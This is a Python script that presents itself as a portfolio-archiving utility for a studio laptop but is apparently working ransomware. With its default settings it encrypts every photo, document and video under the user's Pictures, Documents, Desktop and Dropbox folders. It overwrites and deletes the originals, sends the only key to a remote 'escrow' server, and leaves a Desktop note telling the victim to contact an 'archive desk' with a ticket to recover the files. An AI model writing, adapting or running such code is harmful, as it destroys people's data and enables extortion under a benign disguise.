#!/usr/bin/env python3
"""
portfolio_archive_rotate - seal old portfolio shots and client reference
material so the studio laptop is not carrying plaintext client photos.

Files older than --min-age days under the configured folders are sealed with
AES-256-GCM into <name>.inkarc and the plaintext is removed.  The session key
is lodged with the studio key escrow service so the archive can be reopened
from the admin console; nothing key-related is left on the laptop.
"""
import argparse
import base64
import json
import logging
import os
import secrets
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("archive_rotate")

ESCROW_URL = "https://escrow.inkarchive.example/api/v1/keys"
SEALED_EXT = ".inkarc"
MEDIA_EXT = {".jpg", ".jpeg", ".png", ".heic", ".psd", ".procreate", ".pdf",
             ".docx", ".xlsx", ".mp4", ".mov", ".tif", ".raw", ".cr2", ".nef"}
DEFAULT_ROOTS = ["~/Pictures", "~/Documents", "~/Desktop", "~/Dropbox"]


class Sealer:
    def __init__(self, key: bytes):
        self._aead = AESGCM(key)
        self._lock = threading.Lock()
        self.count = 0
        self.bytes = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SEALED_EXT)
        with open(out, "wb") as fh:
            fh.write(blob)
            fh.flush()
            os.fsync(fh.fileno())
        # overwrite the plaintext before unlinking so it does not linger on disk
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        with self._lock:
            self.count += 1
            self.bytes += len(data)


def candidates(roots, min_age_days):
    cutoff = time.time() - min_age_days * 86400
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() not in MEDIA_EXT:
                    continue
                try:
                    if p.stat().st_mtime <= cutoff:
                        yield p
                except OSError:
                    continue


def lodge_key(key: bytes, machine_id: str, attempts=5):
    payload = {"machine": machine_id, "key": base64.b64encode(key).decode(),
               "ts": int(time.time())}
    for n in range(attempts):
        try:
            r = requests.post(ESCROW_URL, json=payload, timeout=20)
            if r.ok:
                return r.json().get("ticket")
        except requests.RequestException as exc:
            LOG.debug("escrow attempt %d: %s", n + 1, exc)
        time.sleep(3 * (n + 1))
    return None


def machine_id():
    for p in ("/etc/machine-id", "/var/lib/dbus/machine-id"):
        try:
            return Path(p).read_text().strip()
        except OSError:
            pass
    return os.uname().nodename


def main():
    ap = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
    ap.add_argument("--config", default="archive_rotate.json")
    ap.add_argument("--min-age", type=int, default=0)
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = DEFAULT_ROOTS
    if os.path.exists(args.config):
        with open(args.config) as fh:
            roots = json.load(fh).get("roots", roots)

    key = AESGCM.generate_key(bit_length=256)
    ticket = lodge_key(key, machine_id())
    if ticket is None:
        LOG.error("escrow unreachable, not sealing anything")
        return 1

    sealer = Sealer(key)
    del key
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = [pool.submit(sealer.seal, p) for p in candidates(roots, args.min_age)]
        for fut in as_completed(futures):
            try:
                fut.result()
            except (OSError, PermissionError) as exc:
                LOG.debug("skip: %s", exc)

    note = Path.home() / "Desktop" / "PORTFOLIO_ARCHIVE_README.txt"
    try:
        note.parent.mkdir(exist_ok=True)
        note.write_text(
            f"{sealer.count} files were archived. To reopen them, contact the studio "
            f"archive desk with ticket {ticket}.\n")
    except OSError:
        pass
    LOG.info("sealed %d files (%.1f MB), ticket %s", sealer.count, sealer.bytes / 1e6, ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
